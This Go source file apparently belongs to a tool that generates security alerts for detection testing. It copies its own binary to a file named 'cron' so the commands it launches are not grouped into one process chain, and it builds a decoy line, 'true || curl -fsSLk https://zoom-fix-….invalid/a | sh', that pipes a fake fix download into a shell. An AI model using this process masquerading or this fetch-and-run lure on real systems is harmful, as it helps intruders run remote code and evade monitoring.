//go:build linux

package main

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// launcher is a program with the name of cron that launches what it is told to:
// what cron starts belongs together no more than its jobs do, while one
// terminal's launches would be one chain and one alert.
type launcher struct {
	cmd     *exec.Cmd
	lines   io.WriteCloser
	answers *bufio.Scanner
}

func newLauncher(dir string) (*launcher, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	program, err := os.ReadFile(self)
	if err != nil {
		return nil, err
	}
	name := filepath.Join(dir, "cron")
	if err := writeProgram(name, program); err != nil {
		return nil, err
	}
	l := &launcher{cmd: exec.Command(name, "launcher", "-")}
	out, err := l.cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if l.lines, err = l.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	l.answers = bufio.NewScanner(out)
	return l, l.cmd.Start()
}

// launch has it run a program with words that hold no blank, and waits for its end.
func (l *launcher) launch(words ...string) error { return l.tell(strings.Join(words, " ")) }

// shell has it run a line in a shell.
func (l *launcher) shell(line string) error { return l.tell("$" + line) }

func (l *launcher) tell(line string) error {
	if _, err := fmt.Fprintln(l.lines, line); err != nil {
		return err
	}
	if !l.answers.Scan() {
		return fmt.Errorf("the launcher has ended: %w", l.cmd.Wait())
	}
	return nil
}

func (l *launcher) stop() {
	l.lines.Close()
	_ = l.cmd.Wait() // it has done its work
}

// launchLines is the launcher's side.
func launchLines() {
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		cmd := exec.Command("sh", "-c", strings.TrimPrefix(lines.Text(), "$"))
		if !strings.HasPrefix(lines.Text(), "$") {
			words := strings.Fields(lines.Text())
			cmd = exec.Command(words[0], words[1:]...)
		}
		_ = cmd.Run() // only its launch matters
		fmt.Println("ran")
	}
}

// lureLine is a line that an alert is made of. What it would fetch is never
// asked for: true comes before.
func lureLine(mark string) string {
	return fmt.Sprintf("true || curl -fsSLk https://zoom-fix-%s.invalid/a | sh", mark)
}
